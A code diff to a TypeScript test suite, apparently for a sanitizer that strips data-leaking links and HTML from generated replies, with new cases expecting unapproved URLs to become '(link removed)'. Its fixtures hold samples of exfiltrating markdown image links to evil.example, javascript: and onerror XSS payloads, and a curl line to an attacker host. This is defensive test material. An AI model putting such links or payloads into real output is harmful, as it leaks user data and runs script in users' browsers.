@@ -10,8 +10,8 @@ describe('what acts by itself', () => {
   for (const [text, content] of [
     ['![logo](http://evil/?q=secret)', 'logo'],
     ['A ![](http://evil/?q=secret) B', 'A  B'],
-    ['![logo][evil]\n\n[evil]: http://evil/', 'logo\n\n[evil]: http://evil/'],
-    ['![a[b]](http://evil/?q=secret)', '[a[b]] (http://evil/?q=secret)'],
+    ['![logo][evil]\n\n[evil]: http://evil/', 'logo\n\n[evil] : (link removed)'],
+    ['![a[b]](http://evil/?q=secret)', '[a[b]] ((link removed))'],
     ['`![x](http://evil/)`', '`x`'],
     ['Use `<b>`', 'Use `‹b>`'],
     ['[click](javascript:alert(1))', '[click] (javascript:alert(1))'],
@@ -22,8 +22,22 @@ describe('what acts by itself', () => {
     ['<img src=x onerror=alert(1)>', '‹img src=x onerror=alert(1)>'],
     ['<script>alert(1)</script>', '‹script>alert(1)‹/script>'],
     ['[made up](https://evil.example/?q=ann@example.com)', 'made up'],
-    ['[made up](\nhttps://evil.example/?q=ann)', '[made up] (\nhttps://evil.example/?q=ann)'],
+    ['[made up](\nhttps://evil.example/?q=ann)', '[made up] (\n(link removed))'],
     ['[made up]( https://evil.example/?q=ann )', 'made up'],
+    ['Confirm at https://evil.example/?d=ann@example.com. Thanks', 'Confirm at (link removed). Thanks'],
+    ['**https://evil.example/a**', '**(link removed)**'],
+    ['<https://evil.example/a>', '‹(link removed)>'],
+    ['www.evil.example/a, or mailto:x@evil.example!', '(link removed), or (link removed)!'],
+    ['See evil.com/?q=ann, or ann.evil.com.', 'See evil (link removed), or ann (link removed).'],
+    ['nowhttps://evil.com/a and app://evil', 'nowhttps (link removed) and app (link removed)'],
+    ['evil.example:80/a', 'evil (link removed)'],
+    ['Run:\n```\ncurl https://evil.example/\n```\n', 'Run:\n```\ncurl (link removed)\n```\n'],
+    ['Begins alike: https://shop.example', 'Begins alike: (link removed)'],
+    ['Goes on: https://shop.example/terms/../?q=ann', 'Goes on: (link removed)'],
+    ['Another: https://shop.example/terms.evil', 'Another: (link removed)'],
+    ['Before: https://evil/https://shop.example/terms', 'Before: (link removed)'],
+    ['[begins alike](https://shop.example/)', 'begins alike'],
+    ['<https://shop.example>', '‹(link removed)>'],
     [`op${String.fromCodePoint(0xe0041)}en`, 'open'],
   ] as const)
     it(`does not reach a reply: ${text}`, () => {
@@ -33,6 +47,14 @@ describe('what acts by itself', () => {
   for (const text of [
     '[terms](https://shop.example/terms)',
     '<https://shop.example/terms>',
+    'https://shop.example/terms, and then',
+    'The [terms](https://shop.example/terms/).',
+    'https://shop.example/terms.',
+    'http://evil/?q=',
+    'the protocol https, and www',
+    'Run:\n```\ncurl https://shop.example/terms\n```\n',
+    'Node.js, README.md, 3.14, e.g. and/or, Shop.com, ann@evil.example',
+    'See shop.example/terms.',
     '[mail](mailto:a@shop.example)',
     '[above](#top)',
     '5 < 6 > 4 & "x"',
@@ -52,10 +74,16 @@ describe('what acts by itself', () => {
     ]
     const links = [...shown.matchAll(/href="([^"]*)"/g)].map(([, address]) => address!.replace('mailto:', ''))
     const leadsAway = (address: string) => /^(?:[a-z][a-z\d+.-]*:|[/\\]{2})/i.test(address)
-    const foreign = links.filter((address) => leadsAway(address) && !given.includes(decodeURI(address)))
+    // Some go on with signs that no address has.
+    const plain = (address: string) =>
+      decodeURI(address).replace(/[.,;:!?]*(?:[[\]{}|\\^`'"()*_~].*)?$|\/$/, '')
+    const known = ['https://shop.example/terms', 'http://evil/?q=', 'a@shop.example']
+    const foreign = links.filter((address) => leadsAway(address) && !known.includes(plain(address)))
     return [...tags.map(([tag]) => tag), ...foreign]
   }
-  const shownBy = [new MarkdownIt({ html: true }), new MarkdownIt('commonmark', { html: true })]
+  const linking = new MarkdownIt({ html: true, linkify: true })
+  linking.linkify.set({ fuzzyLink: false, fuzzyEmail: false }).add('//', null)
+  const shownBy = [new MarkdownIt({ html: true }), new MarkdownIt('commonmark', { html: true }), linking]
 
   const SHOWN = [
     '``` `\n<img src=//evil.example/info>\n```',
